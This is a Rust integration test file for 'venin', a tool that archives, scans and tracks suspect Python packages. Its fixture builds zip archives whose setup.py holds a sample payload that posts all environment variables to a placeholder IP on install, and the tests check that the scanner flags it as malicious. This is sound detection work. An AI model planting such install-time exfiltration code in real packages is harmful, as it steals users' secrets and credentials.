//! `venin vault`, `venin store` and `venin lifecycle` over one folder of inert archives.

use std::io::Write;
use std::path::Path;

use serde_json::Value;

use crate::{Run, run, venin};

/// A module that an attacker could have written; its address is documentation and it sends a word.
const MODULE: &str = "import os, urllib.request\n\
    urllib.request.urlopen('http://198.51.100.7/x', data=str(dict(os.environ)).encode())\n";

/// A folder with `tree/` in the layout package/version/archive, and room for a store and a vault.
fn workplace() -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    for (name, version, text) in
        [("bad-name", "1.0", MODULE), ("bad-name", "1.1", MODULE), ("good", "2", "x = 1\n")]
    {
        let place = folder.path().join("tree").join(name).join(version);
        std::fs::create_dir_all(&place).unwrap();
        let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        zip.start_file(format!("{name}-{version}/setup.py"), zip::write::SimpleFileOptions::default())
            .unwrap();
        zip.write_all(format!("from setuptools import setup\n{text}setup(name='{name}')\n").as_bytes())
            .unwrap();
        let bytes = zip.finish().unwrap().into_inner();
        std::fs::write(place.join(format!("{name}-{version}.zip")), bytes).unwrap();
    }
    std::fs::write(folder.path().join("tree/README"), "no archive").unwrap();
    folder
}

fn at(folder: &Path, words: &[&str]) -> Run {
    run(venin(words).current_dir(folder).env("VENIN_STORE", "claims.sqlite3").env("VENIN_VAULT", "vault"))
}

#[test]
fn samples_go_in_once_are_scanned_sealed_and_their_lives_are_known() {
    let folder = workplace();
    let first = at(folder.path(), &["vault", "import", "tree", "--source", "dataset"]);
    assert_eq!(
        (first.code, first.stdout.as_str()),
        (0, "3 new samples, 0 known, 0 not taken in\n"),
        "{}",
        first.stderr
    );
    let again = at(folder.path(), &["vault", "import", "tree", "--source", "dataset"]);
    assert_eq!(again.stdout, "0 new samples, 3 known, 0 not taken in\n");
    let scanned = at(folder.path(), &["vault", "scan"]);
    assert_eq!(scanned.code, 0, "{}", scanned.stderr);
    assert!(scanned.stdout.contains("bad-name"), "{}", scanned.stdout);

    let life = at(folder.path(), &["lifecycle", "Bad_Name==1.0", "--format", "json"]);
    let life: Value = serde_json::from_str(&life.stdout).unwrap();
    assert_eq!(life["scan"]["verdict"], "malicious");
    let kinds: Vec<&str> =
        life["timeline"].as_array().unwrap().iter().map(|c| c["kind"].as_str().unwrap()).collect();
    assert_eq!(kinds, ["archived", "scanned"]);
    let explained = at(folder.path(), &["explain", "bad-name==1.0"]);
    assert!(explained.stdout.contains("nobody accuses it"), "{}", explained.stdout);
    assert!(
        explained.stdout.contains("our scan finds something, and nobody accuses it"),
        "{}",
        explained.stdout
    );
    let page = at(folder.path(), &["lifecycle", "bad-name", "--format", "html"]);
    assert!(page.stdout.starts_with("<!doctype html>"), "{}", page.stdout);

    assert_eq!(at(folder.path(), &["vault", "scan"]).code, 0);
    let info = at(folder.path(), &["store", "info", "--format", "json"]);
    let info: Value = serde_json::from_str(&info.stdout).unwrap();
    assert_eq!(info["claims"], 6, "a second scan by the same rules says nothing new: {info}");
    let written = at(folder.path(), &["store", "export", "csv", "--output", "claims.csv"]);
    assert_eq!(written.code, 0, "{}", written.stderr);
    let lines = at(folder.path(), &["store", "export", "jsonl"]);
    assert_eq!(lines.stdout.lines().count(), 6, "{}", lines.stdout);
    let columns = at(folder.path(), &["store", "export", "parquet", "--output", "claims.parquet"]);
    assert_eq!((columns.code, columns.stdout.as_str()), (0, ""), "{}", columns.stderr);
    let in_file = std::fs::read(folder.path().join("claims.parquet")).unwrap();
    let mut piped = venin(&["store", "export", "parquet"]);
    let piped =
        piped.current_dir(folder.path()).env("VENIN_STORE", "claims.sqlite3").output().unwrap().stdout;
    assert!(in_file.starts_with(b"PAR1") && in_file.ends_with(b"PAR1"));
    assert_eq!(in_file, piped, "equal claims give equal bytes, wherever they go");
    let nowhere = at(folder.path(), &["store", "export", "parquet", "--output", "no/such/folder"]);
    assert!(nowhere.code == 2 && nowhere.stderr.contains("hint: "), "{}", nowhere.stderr);
    let other = ["collect", "table", "claims.csv", "--store", "other.sqlite3"];
    assert_eq!(at(folder.path(), &other).code, 0);
    let again = at(folder.path(), &["store", "info", "--store", "other.sqlite3", "--format", "json"]);
    let again: Value = serde_json::from_str(&again.stdout).unwrap();
    assert_eq!(again["claims"], 6, "what was written is read back: {again}");
    let sound = at(folder.path(), &["store", "verify"]);
    assert_eq!((sound.code, sound.stdout.as_str()), (0, "the store is sound\n"));
}

#[test]
fn an_exported_sample_stays_sealed_and_a_damaged_one_is_named() {
    let folder = workplace();
    at(folder.path(), &["vault", "import", "tree"]);
    let listed = at(folder.path(), &["vault", "list", "good==2", "--format", "json"]);
    let listed: Value = serde_json::from_str(&listed.stdout).unwrap();
    let digest = listed["samples"][0]["sha256"].as_str().unwrap().to_owned();
    let exported = at(folder.path(), &["vault", "export", "good==2", "--to", "out"]);
    assert_eq!(exported.code, 0, "{}", exported.stderr);
    let sealed = std::fs::read(folder.path().join("out").join(format!("{digest}.zip"))).unwrap();
    assert!(!sealed.windows(10).any(|window| window == b"setuptools"));
    std::fs::write(folder.path().join(format!("vault/samples/{}/{digest}.zip", &digest[..2])), "nonsense")
        .unwrap();
    let checked = at(folder.path(), &["vault", "verify"]);
    assert_eq!(checked.code, 1);
    assert!(
        checked.stdout.contains(&digest) && checked.stdout.ends_with("3 samples, 1 wrong\n"),
        "{}",
        checked.stdout
    );
}

#[test]
fn without_a_store_or_a_release_the_next_step_is_told() {
    let folder = workplace();
    let none = at(folder.path(), &["lifecycle", "six"]);
    assert_eq!(none.code, 2);
    assert!(
        none.stderr.contains("there is no event store") && none.stderr.contains("venin collect"),
        "{}",
        none.stderr
    );
    let wrong = at(folder.path(), &["lifecycle", "../etc"]);
    assert!(wrong.stderr.contains("is no project name"), "{}", wrong.stderr);
    at(folder.path(), &["vault", "import", "tree"]);
    let unknown = at(folder.path(), &["vault", "export", "other==1", "--to", "out"]);
    assert!(unknown.stderr.contains("the vault has no sample of `other==1`"), "{}", unknown.stderr);
}
